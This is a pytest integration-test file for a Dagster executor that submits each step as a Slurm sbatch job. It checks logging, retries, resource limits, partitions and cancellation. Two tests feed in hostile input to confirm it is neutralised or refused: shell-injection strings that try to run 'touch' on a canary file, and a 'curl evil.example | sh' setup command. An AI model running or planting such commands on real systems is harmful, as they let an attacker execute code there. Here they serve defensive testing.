"""slurm_executor on the lab cluster: every step an sbatch job, running as the cluster user,
with the Dagster instance in a directory that user cannot read (so events can only arrive
through the journal)."""

import os
import subprocess
import sys
import uuid
from pathlib import Path

import pytest
from dagster import AssetKey, DagsterInstance, execute_job
from dagster._core.definitions.reconstruct import ReconstructableJob
from dagster._core.events import DagsterEventType
from dagster._core.execution.job_execution_result import JobExecutionResult

from dagster_slurm_launcher.naming import job_name
from dagster_slurm_launcher.run_events import SLURM_JOB_ID
from tests import lab

pytestmark = pytest.mark.lab


def run(code_dir: Path, module: str, job: str, instance: DagsterInstance, **kwargs: object) -> JobExecutionResult:
    return execute_job(ReconstructableJob.for_file(str(code_dir / module), job), instance, **kwargs)


def events_of(instance: DagsterInstance, run_id: str, event_type: DagsterEventType) -> list:
    return [r.event_log_entry for r in instance.get_records_for_run(run_id, of_type=event_type).records]


def messages(instance: DagsterInstance, run_id: str) -> list[str]:
    return [e.user_message for e in instance.all_logs(run_id)]


def test_an_asset_graph_runs_every_step_as_its_own_slurm_job(
    code_dir: Path, instance: DagsterInstance, tmp_path: Path
) -> None:
    assert not lab.cluster_user_can_read(tmp_path / "dagster_home")
    result = run(code_dir, "assets_graph.py", "all_assets", instance)
    assert result.success
    jobs = lab.settled_jobs_of_run(result.run_id, 6)
    assert len(jobs) == 6 and {j["state"] for j in jobs} == {"COMPLETED"}
    report = instance.get_latest_materialization_event(AssetKey("report"))
    assert report is not None and report.asset_materialization.metadata["total"].value == 9
    assert all(
        instance.get_latest_materialization_event(AssetKey(k)) for k in ["source", "left", "middle", "right", "joined"]
    )
    # A log line written by user code on the compute node, non-ASCII included.
    assert "total is 9 — ünïcødé" in messages(instance, result.run_id)


def test_the_ui_shows_each_steps_slurm_job_and_its_accounting(code_dir: Path, instance: DagsterInstance) -> None:
    result = run(code_dir, "assets_graph.py", "all_assets", instance)
    starting = events_of(instance, result.run_id, DagsterEventType.STEP_WORKER_STARTING)
    assert {e.step_key for e in starting} == {"source", "left", "middle", "right", "joined", "report"}
    job_ids = {e.dagster_event.event_specific_data.metadata[SLURM_JOB_ID].value for e in starting}
    assert job_ids == {j["job_id"] for j in lab.settled_jobs_of_run(result.run_id, 6)}
    engine = [
        e.dagster_event
        for e in events_of(instance, result.run_id, DagsterEventType.ENGINE_EVENT)
        if e.step_key == "report"
    ]
    ended = [e for e in engine if "ended normally" in e.message]
    assert len(ended) == 1
    metadata = ended[0].event_specific_data.metadata
    assert {SLURM_JOB_ID, "Slurm state", "Exit code", "Elapsed", "Node"} <= set(metadata)
    assert metadata["Slurm state"].value == "COMPLETED" and metadata["Exit code"].value == "0:0"
    # A one-second job's CPU efficiency is rounding noise (sacct's Elapsed is whole seconds).
    assert "CPU efficiency" not in metadata
    assert any("is RUNNING on" in e.message or "is PENDING" in e.message for e in engine)
    # What sbatch was asked for, after the step's tags, is in the submission's message.
    (submitted,) = [e for e in starting if e.step_key == "report"]
    assert (
        "--export=NONE" in submitted.message
        and submitted.dagster_event.event_specific_data.metadata["sbatch options"].value in submitted.message
    )


def test_a_steps_stdout_and_stderr_are_in_its_captured_logs(code_dir: Path, instance: DagsterInstance) -> None:
    result = run(code_dir, "assets_graph.py", "all_assets", instance)
    (captured,) = [
        e.dagster_event.logs_captured_data
        for e in events_of(instance, result.run_id, DagsterEventType.LOGS_CAPTURED)
        if e.dagster_event.logs_captured_data.step_keys == ["report"]
    ]
    manager = instance.compute_log_manager
    logs = manager.get_log_data(manager.build_log_key_for_run(result.run_id, captured.file_key))
    assert b"report printed 9 to stdout" in logs.stdout
    assert b'STEP_SUCCESS - Finished execution of step "report"' in logs.stderr


def test_outputs_pass_through_a_shared_io_manager_and_dynamic_outputs_map_and_collect(
    code_dir: Path, instance: DagsterInstance
) -> None:
    result = run(code_dir, "ops.py", "dynamic_job", instance)
    assert result.success
    assert "total=500" in messages(instance, result.run_id)
    # fan_out, three square[...] steps, total, check_total.
    assert len(lab.settled_jobs_of_run(result.run_id, 6)) == 6


def test_a_failing_op_shows_the_users_exception(code_dir: Path, instance: DagsterInstance) -> None:
    result = run(code_dir, "ops.py", "failing_job", instance, raise_on_error=False)
    assert not result.success
    failure = events_of(instance, result.run_id, DagsterEventType.STEP_FAILURE)[0].dagster_event
    error = failure.step_failure_data.error
    message = error.cause.message if error.cause else error.message
    assert "the user's own error message" in message
    assert "ops.py" in "".join((error.cause or error).stack)
    # The job that ran the failed step ended normally: said so, not as a bare "COMPLETED".
    engine = [e.dagster_event.message for e in events_of(instance, result.run_id, DagsterEventType.ENGINE_EVENT)]
    assert any("ended normally; the step failed in the op's code" in m for m in engine), engine


def test_a_retry_policy_retries_the_op_as_a_new_slurm_job(code_dir: Path, instance: DagsterInstance) -> None:
    result = run(code_dir, "ops.py", "flaky_job", instance)
    assert result.success
    jobs = lab.settled_jobs_of_run(result.run_id, 2)
    # The first attempt failed in Dagster, not in Slurm: its worker reported the failure and exited 0.
    assert len(jobs) == 2 and {j["state"] for j in jobs} == {"COMPLETED"}
    assert len(events_of(instance, result.run_id, DagsterEventType.STEP_UP_FOR_RETRY)) == 1


def test_a_step_killed_by_its_time_limit_fails_naming_the_limit(code_dir: Path, instance: DagsterInstance) -> None:
    result = run(code_dir, "ops.py", "timeout_job", instance, raise_on_error=False)
    assert not result.success
    (job,) = lab.settled_jobs_of_run(result.run_id, 1)
    assert job["state"] == "TIMEOUT"
    error = events_of(instance, result.run_id, DagsterEventType.STEP_FAILURE)[0].dagster_event.step_failure_data.error
    assert "reached its time limit (00:01:00)" in error.message and "Raise `time`" in error.message


def test_a_step_killed_for_memory_fails_naming_the_limit(code_dir: Path, instance: DagsterInstance) -> None:
    result = run(code_dir, "ops.py", "oom_job", instance, raise_on_error=False)
    assert not result.success
    error = events_of(instance, result.run_id, DagsterEventType.STEP_FAILURE)[0].dagster_event.step_failure_data.error
    assert "ran out of memory (requested 300M" in error.message and "Raise `mem`" in error.message


def test_static_and_dynamic_partitions_materialize(code_dir: Path, instance: DagsterInstance) -> None:
    result = run(code_dir, "partitions.py", "regions_job", instance, tags={"dagster/partition": "us"})
    assert result.success
    event = instance.get_latest_materialization_event(AssetKey("by_region"))
    assert event.dagster_event.partition == "us"
    # The compute node cannot ask the instance which dynamic partitions exist: they travel with the step.
    instance.add_dynamic_partitions("samples", ["s-001", "s-002"])
    result = run(code_dir, "partitions.py", "samples_job", instance, tags={"dagster/partition": "s-002"})
    assert result.success
    assert instance.get_latest_materialization_event(AssetKey("by_sample")).dagster_event.partition == "s-002"


def test_op_tags_reach_sbatch(code_dir: Path, instance: DagsterInstance) -> None:
    result = run(code_dir, "ops.py", "tagged_job", instance)
    assert result.success
    (job,) = lab.settled_jobs_of_run(result.run_id, 1)
    assert (job["cpus"], job["req_mem"], job["time_limit"], job["partition"]) == ("2", "700M", "00:07:00", "batch")
    assert "SLURM_CPUS_PER_TASK=2" in messages(instance, result.run_id)
    # The UI shows what the step was given, in the submission's message.
    assert any("--cpus-per-task=2 --mem=700M" in m for m in messages(instance, result.run_id))


def test_a_missing_python_on_the_cluster_fails_with_its_stderr(
    code_dir: Path, instance: DagsterInstance, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("DAGSTER_SLURM_TRUST_RUN_CONFIG", "true")
    config = {"execution": {"config": {"python": "/nowhere/bin/python3", "poll_interval": 1.0}}}
    result = run(code_dir, "ops.py", "configurable_job", instance, run_config=config, raise_on_error=False)
    assert not result.success
    error = events_of(instance, result.run_id, DagsterEventType.STEP_FAILURE)[0].dagster_event.step_failure_data.error
    assert "without reporting the step's outcome" in error.message
    assert "/nowhere/bin/python3: No such file or directory" in error.message


def test_hostile_strings_in_config_and_env_values_never_change_the_command(
    code_dir: Path, instance: DagsterInstance, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("DAGSTER_SLURM_TRUST_RUN_CONFIG", "true")
    canary = lab.shared_dir() / "io" / f"pwned-{uuid.uuid4().hex[:8]}"
    hostile = f'it\'s `touch {canary}` $(touch {canary}); touch {canary} "q" \\ ü'
    monkeypatch.setenv("HOSTILE_ENV", hostile)
    config = {
        "execution": {
            "config": {
                "poll_interval": 1.0,
                "env_vars": ["HOSTILE_ENV"],
                "sbatch_options": {"comment": hostile},
                "setup": ["export FROM_SETUP=ran"],
            }
        }
    }
    result = run(code_dir, "ops.py", "configurable_job", instance, run_config=config)
    assert result.success
    assert f"HOSTILE_ENV={hostile}" in messages(instance, result.run_id)
    assert "FROM_SETUP=ran" in messages(instance, result.run_id)
    assert not canary.exists()


def test_a_bad_sbatch_tag_is_refused_before_anything_is_submitted(code_dir: Path, instance: DagsterInstance) -> None:
    (code_dir / "bad_tag.py").write_text(
        "from dagster import job, op\nfrom dagster_slurm_launcher import slurm_executor\n"
        "@op(tags={'dagster-slurm/sbatch': {'output': '/tmp/x'}})\ndef o(): pass\n"
        "@op\ndef first(): pass\n"
        "@job(executor_def=slurm_executor)\ndef bad():\n    first()\n    o()\n"
    )
    result = run(code_dir, "bad_tag.py", "bad", instance, raise_on_error=False)
    assert not result.success
    assert lab.slurm_jobs_of_run(result.run_id) == []
    failure = events_of(instance, result.run_id, DagsterEventType.RUN_FAILURE)[0]
    assert "'output' is set by the executor" in str(failure.dagster_event.event_specific_data.error)


def test_a_step_whose_job_sbatch_rejects_fails_alone_with_sbatchs_message(
    code_dir: Path, instance: DagsterInstance
) -> None:
    # Both steps are ready together and go to the cluster in one command.
    (code_dir / "rejected.py").write_text(
        "from dagster import job, op\nfrom dagster_slurm_launcher import slurm_executor\n"
        "@op(tags={'dagster-slurm/sbatch': {'partition': 'no-such-partition'}})\ndef misplaced(): pass\n"
        "@op\ndef fine(): pass\n"
        "@job(executor_def=slurm_executor.configured({'poll_interval': 1.0}))\n"
        "def rejected():\n    misplaced()\n    fine()\n"
    )
    result = run(code_dir, "rejected.py", "rejected", instance, raise_on_error=False)
    assert not result.success
    [failure] = events_of(instance, result.run_id, DagsterEventType.STEP_FAILURE)
    assert failure.step_key == "misplaced"
    assert "invalid partition" in failure.dagster_event.step_failure_data.error.message
    assert [e.step_key for e in events_of(instance, result.run_id, DagsterEventType.STEP_SUCCESS)] == ["fine"]
    assert [(j["name"], j["state"]) for j in lab.settled_jobs_of_run(result.run_id, 1)] == [
        (job_name(result.run_id, "fine"), "COMPLETED")
    ]


def test_a_running_step_has_imported_nothing_only_the_dagster_host_needs(
    code_dir: Path, instance: DagsterInstance
) -> None:
    (code_dir / "imports.py").write_text(
        "import sys\nfrom dagster import job, op\nfrom dagster_slurm_launcher import slurm_executor\n"
        "HOST_ONLY = ('fabric', 'invoke', 'paramiko', 'cryptography', 'pydantic_settings', 'dagster_postgres')\n"
        "@op\ndef probe(context):\n"
        "    loaded = sorted({m.split('.')[0] for m in sys.modules} & set(HOST_ONLY))\n"
        "    context.log.info(f'host-only modules: {loaded}')\n"
        "@job(executor_def=slurm_executor.configured({'poll_interval': 1.0}))\ndef imports():\n    probe()\n"
    )
    result = run(code_dir, "imports.py", "imports", instance)
    assert result.success
    assert "host-only modules: []" in messages(instance, result.run_id)


def test_an_abbreviated_option_the_executor_owns_is_refused(
    code_dir: Path, instance: DagsterInstance, monkeypatch: pytest.MonkeyPatch
) -> None:
    # sbatch reads `--job-n=x` as --job-name=x: the step's job could not be found again.
    monkeypatch.setenv("DAGSTER_SLURM_TRUST_RUN_CONFIG", "true")
    config = {"execution": {"config": {"sbatch_options": {"job_n": "renamed"}}}}
    result = run(code_dir, "ops.py", "configurable_job", instance, run_config=config, raise_on_error=False)
    assert not result.success
    assert lab.slurm_jobs_of_run(result.run_id) == []
    failure = events_of(instance, result.run_id, DagsterEventType.RUN_FAILURE)[0]
    assert "'job_n' (sbatch reads it as --job-name) is set by the executor" in str(
        failure.dagster_event.event_specific_data.error
    )


def test_run_config_that_would_run_commands_on_the_cluster_is_refused_unless_trusted(
    code_dir: Path, instance: DagsterInstance
) -> None:
    # Anyone who may launch a run must not get a shell on the cluster through its run config.
    config = {"execution": {"config": {"setup": ["curl evil.example | sh"], "python": "/bin/sh"}}}
    result = run(code_dir, "ops.py", "configurable_job", instance, run_config=config, raise_on_error=False)
    assert not result.success
    assert lab.slurm_jobs_of_run(result.run_id) == []
    error = str(
        events_of(instance, result.run_id, DagsterEventType.RUN_FAILURE)[0].dagster_event.event_specific_data.error
    )
    assert "sets executor config 'setup', 'python'" in error and "DAGSTER_SLURM_TRUST_RUN_CONFIG=true" in error


def test_run_config_may_set_sbatch_options_where_the_deployment_trusts_it(
    code_dir: Path, instance: DagsterInstance, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("DAGSTER_SLURM_TRUST_RUN_CONFIG", "true")
    monkeypatch.setenv("HOSTILE_ENV", "trusted")
    config = {
        "execution": {
            "config": {"poll_interval": 1.0, "env_vars": ["HOSTILE_ENV"], "sbatch_options": {"comment": "per run"}}
        }
    }
    result = run(code_dir, "ops.py", "configurable_job", instance, run_config=config)
    assert result.success and "HOSTILE_ENV=trusted" in messages(instance, result.run_id)


def test_an_unknown_executor_config_key_is_a_dagster_config_error(code_dir: Path, instance: DagsterInstance) -> None:
    from dagster import DagsterInvalidConfigError

    with pytest.raises(DagsterInvalidConfigError, match="partitionn"):
        run(
            code_dir,
            "ops.py",
            "configurable_job",
            instance,
            run_config={"execution": {"config": {"partitionn": "debug"}}},
        )


def test_a_successful_run_removes_its_folder_and_a_failed_one_keeps_it(
    code_dir: Path, instance: DagsterInstance
) -> None:
    base = Path(os.environ["DAGSTER_SLURM_REMOTE_BASE_DIR"])
    ok = run(code_dir, "ops.py", "hello_job", instance)
    assert ok.success
    failed = run(code_dir, "ops.py", "failing_job", instance, raise_on_error=False)
    lab.wait_until(lambda: not (base / "runs" / ok.run_id).exists(), timeout=30, what="run folder removed")
    assert (base / "runs" / failed.run_id / failed.run_id).is_dir()


def test_terminating_a_running_run_cancels_its_slurm_jobs(code_dir: Path, instance: DagsterInstance) -> None:
    import signal

    from dagster import DagsterRunStatus

    worker = lab.start_run_worker(instance, code_dir / "ops.py", "sleeping_job")
    try:
        run = lab.wait_until(lambda: next(iter(instance.get_runs()), None), timeout=60, what="run created")
        lab.wait_until(
            lambda: [j for j in lab.slurm_jobs_of_run(run.run_id) if j["state"] == "RUNNING"],
            timeout=60,
            what="job running",
        )
        # What terminating from the UI does with the default run launcher: mark the run
        # canceling, then interrupt its run worker.
        instance.report_run_canceling(run)
        worker.send_signal(signal.SIGINT)
        worker.wait(timeout=120)  # raises TimeoutExpired if the worker does not stop
    finally:
        worker.kill()
    assert instance.get_run_by_id(run.run_id).status == DagsterRunStatus.CANCELED
    (job,) = lab.settled_jobs_of_run(run.run_id, 1)
    assert job["state"].startswith("CANCELLED")


def test_a_run_from_the_command_line_prints_its_steps_events_and_logs_and_stores_them_once(
    code_dir: Path, tmp_path: Path
) -> None:
    home = tmp_path / "cli_home"
    home.mkdir()
    (home / "dagster.yaml").write_text("telemetry:\n  enabled: false\n")
    dagster = Path(sys.executable).with_name("dagster")
    command = [str(dagster), "job", "execute", "-f", "assets_graph.py", "-j", "all_assets"]
    done = subprocess.run(command, env={**os.environ, "DAGSTER_HOME": str(home)}, capture_output=True, timeout=600)
    printed = (done.stdout + done.stderr).decode()
    assert done.returncode == 0, printed[-3000:]
    # The terminal shows what the compute nodes logged, as under the multiprocess executor.
    assert "report - total is 9 — ünïcødé" in printed
    assert printed.count('STEP_SUCCESS - Finished execution of step "report"') == 1
    with DagsterInstance.from_config(str(home)) as instance:
        (cli_run,) = instance.get_runs()
        assert messages(instance, cli_run.run_id).count("total is 9 — ünïcødé") == 1
